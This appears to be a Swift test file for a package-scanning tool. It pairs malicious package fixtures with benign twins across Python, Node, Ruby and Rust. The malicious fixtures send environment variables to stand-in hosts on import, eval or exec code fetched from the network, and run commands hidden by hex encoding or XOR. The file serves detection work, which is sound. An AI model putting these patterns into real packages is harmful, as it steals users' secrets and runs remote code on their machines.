import Testing

@testable import Provenance

/// The same across the files of a package, and in languages that are read line by line.
@Suite("An attack in several files and its honest twin")
struct FilesTests {
    static let files: [(String, [(String, String)], [(String, String)])] = [
        (
            "what one file gathers, another sends",
            [
                ("x/facts.py", "import os\ndef gather():\n    return dict(os.environ)\n"),
                (
                    "x/link.py",
                    "import requests\ndef push(d):\n"
                        + "    requests.post('https://in.far.example/a', json=d)\n"
                ),
                (
                    "x/__init__.py",
                    "from .facts import gather\nfrom .link import push\npush(gather())\n"
                ),
            ],
            [
                ("x/facts.py", "import os\ndef gather():\n    return os.environ.get('LANG')\n"),
                (
                    "x/link.py",
                    "import requests\ndef push(d):\n"
                        + "    requests.post('https://in.far.example/a', json=d)\n"
                ),
                (
                    "x/__init__.py",
                    "from .facts import gather\nfrom .link import push\n"
                        + "def report():\n    push(gather())\n"
                ),
            ]
        ),
        (
            "a function that fetches, in a file of its own",
            [
                (
                    "x/net.py",
                    "import urllib.request\ndef get(u):\n"
                        + "    return urllib.request.urlopen(u).read()\n"
                ),
                ("x/__init__.py", "from x import net\nexec(net.get('https://a.far.example/p'))\n"),
            ],
            [
                (
                    "x/net.py",
                    "import urllib.request\ndef get(u):\n"
                        + "    return urllib.request.urlopen(u).read()\n"
                ),
                (
                    "x/__init__.py",
                    "import json\nfrom x import net\n"
                        + "def rates():\n    text = net.get('https://a.far.example/p')\n"
                        + "    return json.loads(text)\n"
                ),
            ]
        ),
    ]

    @Test("across the files of a package", arguments: files.indices)
    func filesPair(number: Int) {
        let (_, attack, twin) = Self.files[number]
        let seen = KindsTests.inspect(attack + [KindsTests.info], name: "x-1.tar.gz")
        #expect(seen.answer != .pass, "\(seen.marks)")
        let left = KindsTests.inspect(twin + [KindsTests.info], name: "x-1.tar.gz")
        #expect(left.answer == .pass, "\(left.marks)")
    }

    @Test("across the files of a package for Node")
    func nodeFiles() {
        let manifest = ("package.json", #"{"name":"x","version":"1.0.0","main":"index.js"}"#)
        let gather = ("lib/facts.js", "exports.gather = () => ({ ...process.env });\n")
        let send = (
            "lib/link.js",
            "module.exports = function (d) {\n"
                + "  fetch('https://in.far.example/a', { method: 'POST', body: d });\n};\n"
        )
        let main = (
            "index.js",
            "const { gather } = require('./lib/facts');\nconst push = require('./lib/link');\n"
                + "push(JSON.stringify(gather()));\n"
        )
        let seen = KindsTests.inspect([manifest, gather, send, main], name: "x-1.0.0.tgz")
        #expect(seen.answer != .pass, "\(seen.marks)")
        let plain = ("lib/facts.js", "exports.gather = () => ({ lang: process.env.LANG });\n")
        let left = KindsTests.inspect([manifest, plain, send, main], name: "x-1.0.0.tgz")
        #expect(left.answer == .pass, "\(left.marks)")
    }

    static let others: [(String, String, String, String)] = [
        (
            "x-1.gem", "lib/x.rb",
            """
            require 'net/http'
            class Mailer
              def deliver(m)
                eval(Net::HTTP.get(URI('https://paste.far.example/raw')))
              end
            end
            """,
            """
            require 'net/http'
            class Mailer
              def deliver(m)
                Net::HTTP.post(URI(@url), m.to_json)
              end
            end
            """
        ),
        (
            "x-1.gem", "lib/x.rb",
            """
            class Table
              def render
                Kernel.send(:system, ["6375726c20687474703a2f2f612e62"].pack("H*"))
              end
            end
            """,
            """
            class Table
              def render
                [@text].pack("H*")
              end
            end
            """
        ),
        (
            "x-1.crate", "src/lib.rs",
            """
            use std::process::Command;
            pub fn new() {
                let k: Vec<u8> = [45, 49, 49, 53, 54, 127, 106, 106, 36, 107, 39, 107, 38, 38]
                    .iter().map(|b| b ^ 0x45).collect();
                let _ = Command::new(String::from_utf8(k).unwrap()).spawn();
            }
            """,
            """
            use std::process::Command;
            pub const TABLE: [u8; 14] = [5, 149, 9, 253, 54, 12, 206, 106, 36, 0, 39, 7, 38, 3];
            pub fn run(p: &str) { let _ = Command::new(p).spawn(); }
            """
        ),
    ]

    @Test("in other languages", arguments: others.indices)
    func othersPair(number: Int) {
        let (name, path, attack, twin) = Self.others[number]
        let manifest = ("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1.0.0\"\n")
        let seen = KindsTests.inspect([manifest, (path, attack)], name: name)
        #expect(seen.answer != .pass, "\(seen.marks)")
        let left = KindsTests.inspect([manifest, (path, twin)], name: name)
        #expect(left.answer == .pass, "\(left.marks)")
    }
}
